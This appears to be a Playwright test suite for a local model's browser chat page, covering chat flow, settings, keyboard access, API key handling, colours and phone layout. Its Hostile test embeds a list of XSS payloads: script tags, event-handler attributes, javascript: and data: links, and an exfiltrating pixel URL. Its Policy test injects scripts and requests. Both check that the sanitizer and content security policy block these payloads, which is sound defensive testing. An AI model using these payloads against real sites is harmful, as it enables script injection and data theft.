"""The page in Chromium with the scripted model: keyboard, settings, hostile replies, keys, colours, a phone."""
import json
import os
import unittest

from browser import PHONE, PageTest, Server, chromium
from serving import main

HOSTILE = """**bold** <script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

![pic](http://198.51.100.7/pixel.png?said=secret) [j](javascript:window.hacked=3) [d](data:text/html,<script>window.hacked=4</script>)
[v](vbscript:x) [ok](https://example.org/) <https://example.net/>

<svg onload="window.hacked=5"><style>*{display:none}</style></svg><iframe src="javascript:window.hacked=6"></iframe>
<details open ontoggle="window.hacked=7">x</details><form action="http://198.51.100.7/"><input name=a autofocus onfocus="window.hacked=8"></form>

<a href="https://example.org" onclick="window.hacked=9" style="position:fixed">click</a> `<b>code</b>`

```html
<script>window.hacked=10</script></code></pre><img src=x onerror=window.hacked=11>
```

| a<img src=x onerror=window.hacked=12> | b |
|:--|--:|
| <b>1</b> | 2 |

- [x] done
"""


def stream_of(text, pieces=7):
    """A reply as the server streams it."""
    size = len(text) // pieces + 1
    events = [{"choices": [{"index": 0, "delta": {"content": text[i:i + size]}, "finish_reason": None}]} for i in range(0, len(text), size)]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"


class Chat(PageTest):
    def test_a_conversation(self):
        self.assertIn("scripted", self.page.locator("#model").inner_text())
        self.assertEqual(self.ask("E"), "Hi 🙂!")
        self.assertEqual(self.ask("R", 2), "red fox")
        self.assertIn("tokens/s", self.page.locator(".foot").first.inner_text())
        self.page.click("#new")
        self.assertEqual(self.page.locator(".message").count(), 0)
        self.assertTrue(self.page.locator("#empty").is_visible())
        self.assertEqual(self.ask("C"), "zh你試#")

    def test_what_is_sent(self):
        with self.page.expect_request("**/v1/chat/completions") as first:
            self.ask("E")
        self.assertEqual(first.value.post_data_json, {"messages": [{"role": "user", "content": "E"}], "stream": True})
        for name, value in {"temperature": "0.5", "top_p": "0.9", "top_k": "7", "seed": "42", "max_tokens": "3", "system": "Be brief."}.items():
            self.page.fill(f"[name={name}]", value)
        with self.page.expect_request("**/v1/chat/completions") as second:
            self.ask("S", 2)
        self.assertEqual(second.value.post_data_json, {
            "temperature": 0.5, "top_p": 0.9, "top_k": 7, "seed": 42, "max_tokens": 3, "stream": True,
            "messages": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "E"},
                         {"role": "assistant", "content": "Hi 🙂!"}, {"role": "user", "content": "S"}]})
        self.assertIn("cut", self.page.locator(".foot").nth(1).inner_text())

    def test_try_again_takes_the_reply_back(self):
        self.ask("E")
        with self.page.expect_request("**/v1/chat/completions") as again:
            self.page.get_by_text("Try again").click()
        self.assertEqual(again.value.post_data_json["messages"], [{"role": "user", "content": "E"}])
        self.assertEqual(self.wait_reply(), "Hi 🙂!")
        self.assertEqual(self.page.locator(".message").count(), 2)

    def test_wrong_settings_are_not_sent(self):
        for name, value in (("temperature", "3"), ("top_p", "-1"), ("top_k", "1.5"), ("seed", "-1"), ("max_tokens", "0")):
            with self.subTest(name):
                self.page.fill(f"[name={name}]", value)
                self.say("E")
                self.assertEqual(self.focused(), name)
                self.page.fill(f"[name={name}]", "")
                self.page.fill("#prompt", "")
        self.assertEqual(self.posts(), [])
        self.assertEqual(self.ask("E"), "Hi 🙂!")

    def test_wrong_schemas_are_not_sent(self):
        for text in ("{", "5", "[]", '{"type": "object",}'):
            with self.subTest(text):
                self.set_schema(text)
                self.say("E")
                self.assertEqual(self.focused(), "schema")
                self.assertNotEqual(self.page.locator("#schema-error").inner_text(), "")
                self.page.fill("#prompt", "")
        self.assertEqual(self.posts(), [])
        self.set_schema("")
        self.assertEqual(self.page.locator("#schema-error").inner_text(), "")
        self.assertEqual(self.ask("E"), "Hi 🙂!")

    def test_the_servers_errors_are_said(self):
        self.say("a" * 600)
        foot = self.page.locator(".foot")
        foot.wait_for()
        self.assertIn("512", foot.inner_text())
        self.assertEqual(self.ask("E", 2), "Hi 🙂!")  # the failed turn is left out
        self.set_schema('{"type": "object", "minProperties": "many"}')
        self.say("E")
        self.page.locator(".foot .error").nth(1).wait_for()
        self.assertEqual(self.page.locator(".running").count(), 0)

    def test_the_user_is_plain_text(self):
        self.say("<img src=x onerror='window.hacked=1'> **E**")
        self.wait_reply()
        self.assertEqual(self.page.locator(".user .body").inner_text(), "<img src=x onerror='window.hacked=1'> **E**")
        self.assertEqual(self.page.locator("#log img").count(), 0)

    def test_charts(self):
        self.ask("E")
        self.page.locator(".chart canvas").nth(2).wait_for(state="attached")
        text = self.page.locator("#charts").inner_text()
        for part in ("Tokens/s", "Time to first token", "Memory", "MiB resident", "0 of 4 running", "0 waiting", "Temperature"):
            self.assertIn(part, text)
        plan = self.page.locator("#plan").inner_text()
        for part in ("Weights", "KV cache, 4 × 512", "Workspace", "Free on this machine"):
            self.assertIn(part, plan)
        self.assertGreaterEqual(len([u for m, u in self.asked if u.endswith("/status")]), 2)


class Temperature(PageTest):
    def answer(self, route):
        self.clock += 1
        route.fulfill(json={**self.given, "clock_s": self.clock})

    def test_it_is_not_invented(self):
        real = self.server.get("/v1/mica/status").json()
        self.clock = 0
        self.given = real
        self.page.route("**/v1/mica/status", self.answer)
        for given, shown in ((None, "not available"), ({"celsius": 51.5, "source": "x86_pkg_temp"}, "52 °C, x86_pkg_temp")):
            self.given = {**real, "temperature": given}
            self.page.reload()
            chart = self.page.locator(".chart").filter(has_text="Temperature")
            chart.get_by_text(shown).wait_for()
            self.assertEqual(chart.locator("canvas").count(), 0 if given is None else 1)


class Hostile(PageTest):
    def test_a_hostile_reply_is_harmless(self):
        self.page.route("**/v1/chat/completions",
                        lambda route: route.fulfill(content_type="text/event-stream", body=stream_of(HOSTILE)))
        shown = self.ask("x")
        body = self.page.locator(".assistant .body")
        self.page.wait_for_timeout(300)  # for what would come later: timers, loads
        self.assertEqual(self.page.evaluate("typeof window.hacked"), "undefined")
        self.assertEqual(body.locator("script, img, svg, style, iframe, form, input, details, object, [style]").count(), 0)
        handlers = body.evaluate("e => [...e.querySelectorAll('*')].flatMap((x) => x.getAttributeNames()).filter((n) => n.startsWith('on'))")
        self.assertEqual(handlers, [])
        links = body.evaluate("e => [...e.querySelectorAll('a[href]')].map((a) => [a.getAttribute('href'), a.rel])")
        self.assertEqual([href for href, _ in links],
                         ["http://198.51.100.7/pixel.png?said=secret", "https://example.org/", "https://example.net/"])
        self.assertTrue(all("noopener" in rel and "noreferrer" in rel for _, rel in links))
        self.assertIn("<script>window.hacked = 1</script>", shown)  # as text
        self.assertEqual(body.locator("strong").first.inner_text(), "bold")
        self.assertEqual(body.locator("table td").count(), 2)
        self.assertIn("</code></pre><img", body.locator("pre code").inner_text())


class Policy(PageTest):
    may_violate = True

    def test_the_policy_holds(self):
        """Were there a hole in the sanitizer: the browser itself refuses scripts, pictures and requests that are not the page's."""
        self.page.evaluate("""() => {
            const s = document.createElement("script");
            try { s.textContent = "window.hacked = 1"; } catch (e) { window.refused = e.name; }
            document.body.append(s);
            const i = document.createElement("img");
            i.src = "http://127.0.0.1:9/pixel.png";
            document.body.append(i);
            window.sent = fetch("http://127.0.0.1:9/").then(() => "sent", () => "refused");
        }""")
        self.assertEqual(self.page.evaluate("window.sent"), "refused")
        self.assertEqual(self.page.evaluate("typeof window.hacked"), "undefined")
        self.assertEqual(self.page.evaluate("window.refused"), "TypeError")
        self.assertEqual(self.page.evaluate("() => { try { document.body.innerHTML = 'x'; return ''; } catch (e) { return e.name; } }"), "TypeError")
        violated = " ".join(self.page.evaluate("window.violations"))
        for directive in ("img-src", "connect-src", "require-trusted-types-for"):
            self.assertIn(directive, violated)
        self.asked = [a for a in self.asked if ":9/" not in a[1]]  # blocked before they left


class Keyboard(PageTest):
    def test_enter_and_shift_enter(self):
        self.assertEqual(self.focused(), "prompt")
        self.type("E")
        self.page.keyboard.press("Shift+Enter")
        self.assertEqual(self.page.input_value("#prompt"), "E\n")
        self.assertEqual(self.posts(), [])
        self.page.keyboard.press("Enter")
        self.assertEqual(self.wait_reply(), "Hi 🙂!")
        self.page.keyboard.press("Enter")  # nothing typed, nothing sent
        self.assertEqual(len(self.posts()), 1)

    def test_everything_is_reached_and_seen(self):
        self.ask("E")
        seen = []
        for _ in range(40):
            self.page.keyboard.press("Tab")
            where = self.focused()
            if where in seen:
                break
            seen.append(where)
            outline = self.page.evaluate("""() => { const s = getComputedStyle(document.activeElement);
                return document.activeElement === document.body ? "3px solid" : `${s.outlineWidth} ${s.outlineStyle}`; }""")
            self.assertEqual(outline, "3px solid", where)
        for wanted in ("new", "toggle", "log", "Copy", "Try again", "prompt", "send", "temperature", "top_p", "top_k", "seed", "max_tokens",
                       "system", "Machine", "Sampling", "JSON schema"):
            self.assertIn(wanted, seen)

    def test_names_for_screen_readers(self):
        names = self.page.evaluate("""[...document.querySelectorAll("button, input, textarea")]
            .map((e) => [e.outerHTML, (e.labels[0] ?? e).textContent.trim()])""")
        self.assertGreaterEqual(len(names), 10)
        for element, name in names:
            self.assertNotEqual(name, "", element)
        self.ask("E")
        self.assertEqual(self.page.locator("#note").inner_text(), "The reply is complete.")


class Key(PageTest):
    env = {"MICA_API_KEY": "sesame"}

    def test_the_key_is_asked_for_and_not_kept(self):
        self.page.locator("#locked").wait_for()
        self.page.fill("#key", "other")
        self.page.keyboard.press("Enter")
        self.page.get_by_text("the API key is wrong").wait_for()
        self.assertTrue(self.page.locator("#locked").is_visible())
        self.page.fill("#key", "sesame")
        self.page.keyboard.press("Enter")
        self.page.locator("#locked").wait_for(state="hidden")
        self.assertEqual(self.ask("E"), "Hi 🙂!")
        kept = self.page.evaluate("JSON.stringify([localStorage, sessionStorage]) + document.cookie + location.href")
        self.assertNotIn("sesame", kept)
        self.assertEqual(self.context.cookies(), [])
        self.page.reload()
        self.page.locator("#locked").wait_for()


class Phone(PageTest):
    window = PHONE

    def fits(self):
        return self.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")

    def test_a_narrow_screen(self):
        self.assertTrue(self.fits())
        self.assertFalse(self.page.locator("#panel").is_visible())
        self.page.route("**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=stream_of(
            "wide: " + "x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n|" + "column|" * 30 + "\n|" + "-|" * 30 + "\n")))
        self.ask("E")
        self.assertTrue(self.fits())
        for selector in ("#prompt", "#send", "#new", "#toggle"):
            box = self.page.locator(selector).bounding_box()
            self.assertTrue(box["x"] >= 0 and box["x"] + box["width"] <= 360 and box["y"] >= 0 and box["y"] + box["height"] <= 640, selector)
            self.assertGreaterEqual(box["height"], 30, selector)
        self.page.tap("#toggle")
        self.assertTrue(self.page.locator("#panel").is_visible())
        self.assertTrue(self.fits())
        self.page.locator(".chart canvas").first.wait_for()
        self.page.keyboard.press("Escape")
        self.page.locator("#panel").wait_for(state="hidden")


class Colours(PageTest):
    def luminance(self, element, which):
        """Of a colour, as WCAG 2 defines it."""
        rgb = self.page.locator(element).first.evaluate(f"e => getComputedStyle(e).{which}.match(/[\\d.]+/g).map(Number)")
        linear = [c / 255 / 12.92 if c / 255 <= 0.04045 else ((c / 255 + 0.055) / 1.055) ** 2.4 for c in rgb[:3]]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    def contrast(self, front, back):
        a, b = sorted((self.luminance(front, "color"), self.luminance(back, "backgroundColor")))
        return (b + 0.05) / (a + 0.05)

    def test_dark_and_light_are_readable(self):
        self.ask("E")
        backs = {}
        for scheme in ("dark", "light"):
            self.page.emulate_media(color_scheme=scheme)
            backs[scheme] = self.luminance("body", "backgroundColor")
            for front, back in ((".assistant .body", "body"), (".user .body", ".user .body"), ("#note", "body"), ("#model", "header"),
                                ("h1", "header"), ("#send", "#send"), ("#new", "#new"), (".foot", "body"), ("#plan th", "#panel"), (".chart b", "#panel"),
                                (".chart b + b", "#panel"), ("#schema-error", "#panel")):
                with self.subTest(scheme, front=front):
                    self.assertGreaterEqual(self.contrast(front, back), 4.5)
        self.assertLess(backs["dark"], 0.05)
        self.assertGreater(backs["light"], 0.8)


class Gone(unittest.TestCase):
    """The server ends while the page is open."""

    def test_it_is_said(self):
        page = chromium().new_page()
        server = Server()
        self.addCleanup(server.stop)
        page.goto("http://{}:{}/".format(*server.address))
        page.get_by_text("ok, up").wait_for()
        server.process.kill()
        server.process.wait()
        page.get_by_text("the server cannot be reached").first.wait_for()
        page.fill("#prompt", "E")
        page.keyboard.press("Enter")
        page.locator(".foot .error").wait_for()
        self.assertIn("the server cannot be reached", page.locator(".foot").inner_text())
        page.close()


if __name__ == "__main__":
    main()
